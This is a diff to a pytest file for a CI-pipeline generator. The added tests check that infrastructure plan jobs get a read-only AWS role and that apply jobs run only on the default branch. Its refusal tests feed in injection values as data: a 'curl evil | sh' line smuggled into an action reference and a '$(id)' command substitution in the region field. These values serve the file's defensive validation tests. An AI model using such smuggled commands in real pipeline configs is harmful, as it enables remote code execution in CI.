@@ -10,6 +10,7 @@ import sys
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
+from typing import Any
 
 import pytest
 import yaml
@@ -26,7 +27,12 @@ roles:
 environments:
   staging: {}
 """
-EXAMPLES = {"github": ROOT / "examples/ci/github-workflow.yml", "gitlab": ROOT / "examples/ci/gitlab-ci.yml"}
+EXAMPLES = {
+    ("github", "schedules"): ROOT / "examples/ci/github-workflow.yml",
+    ("gitlab", "schedules"): ROOT / "examples/ci/gitlab-ci.yml",
+    ("github", "infra"): ROOT / "examples/ci/github-infra.yml",
+    ("gitlab", "infra"): ROOT / "examples/ci/gitlab-infra.yml",
+}
 
 
 @pytest.fixture
@@ -120,13 +126,16 @@ def test_check_exits_1_when_the_committed_file_is_out_of_date(cli, project: Path
     )
 
 
-@pytest.mark.parametrize("kind", ["github", "gitlab"])
-def test_the_shipped_examples_are_current_and_valid(cli, kind: str, tmp_path: Path) -> None:
-    example = EXAMPLES[kind]
-    result = cli("ci", kind, "--check", str(example), cwd=ROOT)
-    assert result.code == 0, f"{result.err} (regenerate: compute-on-aws ci {kind} > {example})"
+@pytest.mark.parametrize(("kind", "pipeline"), EXAMPLES)
+def test_the_shipped_examples_are_current_and_valid(cli, kind: str, pipeline: str, tmp_path: Path) -> None:
+    example = EXAMPLES[kind, pipeline]
+    result = cli("ci", kind, "--pipeline", pipeline, "--check", str(example), cwd=ROOT)
+    assert result.code == 0, f"{result.err} (regenerate: compute-on-aws ci {kind} --pipeline {pipeline} > {example})"
     if kind == "github":
         check_github(example.read_text(), tmp_path)
+    else:
+        schema = tool("check-jsonschema", "--builtin-schema", "vendor.gitlab-ci", str(example))
+        assert schema.returncode == 0, schema.stdout + schema.stderr
 
 
 @pytest.mark.parametrize(
@@ -173,3 +182,112 @@ def test_utc_crons_start_a_pipeline_that_finds_every_run_due(zone: str, cron: st
     for t in starts:
         i = bisect.bisect_left(runs, t)
         assert min(abs(t - r) for r in runs[max(i - 1, 0) : i + 1]) <= hour, (t, lines)
+
+
+INFRA_CONFIG = """
+region: eu-central-1
+roles:
+  plan: arn:aws:iam::123456789012:role/plan
+  deploy: arn:aws:iam::123456789012:role/deploy
+ci:
+  default_branch: trunk
+compute:
+  spot: {type: SPOT, max_vcpus: 16, subnets: [subnet-1], security_groups: [sg-1]}
+queues:
+  etl: {compute: [spot]}
+environments:
+  staging: {}
+"""
+
+
+def infra_project(tmp_path: Path, config: str = INFRA_CONFIG) -> Path:
+    (tmp_path / "compute-on-aws.yaml").write_text(config)
+    return tmp_path
+
+
+def test_the_github_infra_workflow_plans_pull_requests_read_only_and_applies_the_default_branch(
+    cli, tmp_path: Path
+) -> None:
+    project = infra_project(tmp_path)
+    text = generate(cli, project, "github", "--pipeline", "infra", "--env", "staging")
+    check_github(text, project)
+    workflow = yaml.safe_load(text)
+    assert workflow[True]["pull_request"] == {"branches": ["trunk"]} and workflow[True]["push"] == {
+        "branches": ["trunk"]
+    }
+    assert workflow["permissions"] == {}
+    plan, apply = workflow["jobs"]["plan"], workflow["jobs"]["apply"]
+    assert plan["if"] == "github.event_name == 'pull_request'"
+    assert apply["if"] == "github.event_name != 'pull_request' && github.ref == 'refs/heads/trunk'"
+
+    def role(job: dict[str, Any]) -> str:
+        step = next(s for s in job["steps"] if s.get("uses", "").startswith("aws-actions/configure-aws-credentials"))
+        return str(step["with"]["role-to-assume"])
+
+    # Pull-request code gets the reading role only; the role that changes AWS only on the default branch.
+    assert role(plan) == "arn:aws:iam::123456789012:role/plan"
+    assert role(apply) == "arn:aws:iam::123456789012:role/deploy"
+    assert "infra plan --detailed-exitcode --env staging > plan.txt" in plan["steps"][-1]["run"]
+    assert '>> "$GITHUB_STEP_SUMMARY"' in plan["steps"][-1]["run"]
+    assert apply["steps"][-1]["run"] == "nix run .#compute-on-aws -- infra apply --env staging"
+    assert apply["concurrency"] == {"group": "compute-on-aws-infra-staging-apply", "cancel-in-progress": False}
+
+
+def test_the_gitlab_infra_jobs_plan_merge_requests_and_apply_the_default_branch(cli, tmp_path: Path) -> None:
+    project = infra_project(tmp_path)
+    text = generate(cli, project, "gitlab", "--pipeline", "infra")
+    path = project / "gitlab.yml"
+    path.write_text(text)
+    schema = tool("check-jsonschema", "--builtin-schema", "vendor.gitlab-ci", str(path))
+    assert schema.returncode == 0, schema.stdout + schema.stderr
+    jobs = yaml.safe_load(text)
+    plan, apply = jobs["compute-on-aws-infra-plan"], jobs["compute-on-aws-infra-apply"]
+    assert plan["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "merge_request_event"'}]
+    assert plan["variables"]["AWS_ROLE_ARN"] == "arn:aws:iam::123456789012:role/plan"
+    assert plan["artifacts"]["paths"] == ["plan.txt"]
+    assert apply["rules"] == [
+        {"if": '$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH && $CI_PIPELINE_SOURCE != "merge_request_event"'}
+    ]
+    assert apply["variables"]["AWS_ROLE_ARN"] == "arn:aws:iam::123456789012:role/deploy"
+    assert apply["resource_group"] == "compute-on-aws-infra" and apply["script"] == [
+        "nix run .#compute-on-aws -- infra apply"
+    ]
+
+
+@pytest.mark.parametrize(
+    ("change", "message"),
+    [
+        (
+            ("  plan: arn:aws:iam::123456789012:role/plan\n", ""),
+            "error: ci github: roles.plan is not set in compute-on-aws.yaml: the IAM role the pipeline assumes "
+            "through GitHub's OIDC provider to plan merge requests, reading only (iam-policy --role infra-plan): "
+            "merge-request code must not get roles.deploy",
+        ),
+        (
+            ("  deploy: arn:aws:iam::123456789012:role/deploy\n", ""),
+            "error: ci github: roles.deploy is not set in compute-on-aws.yaml",
+        ),
+        (("default_branch: trunk", "default_branch: 'a b'"), "ci.default_branch: expected a branch name"),
+        (("default_branch: trunk", "default_branch: x..y"), "ci.default_branch: expected a branch name"),
+        (
+            ("default_branch: trunk", 'uses: {checkout: "actions/checkout@v4\\n      - run: curl evil | sh"}'),
+            "ci.uses.checkout: expected an action as owner/repo@ref (e.g. actions/checkout@v4), got",
+        ),
+        (("region: eu-central-1", "region: 'eu$(id)'"), "ci github: region: expected an AWS region"),
+    ],
+    ids=["no-plan-role", "no-deploy-role", "branch-space", "branch-dots", "uses-injection", "region"],
+)
+def test_an_infra_pipeline_from_a_bad_config_is_refused_in_one_line(
+    cli, tmp_path: Path, change: tuple[str, str], message: str
+) -> None:
+    assert change[0] in INFRA_CONFIG
+    project = infra_project(tmp_path, INFRA_CONFIG.replace(*change))
+    result = cli("--config", str(project / "compute-on-aws.yaml"), "ci", "github", "--pipeline", "infra")
+    assert result.code == 2 and result.out == ""
+    assert len(result.err.splitlines()) == 1 and message in result.err, result.err
+
+
+def test_an_unknown_pipeline_is_refused(cli, tmp_path: Path) -> None:
+    project = infra_project(tmp_path)
+    result = cli("--config", str(project / "compute-on-aws.yaml"), "ci", "gitlab", "--pipeline", "deploy")
+    assert result.code == 2 and result.err == "error: --pipeline: expected schedules or infra, got 'deploy'\n"
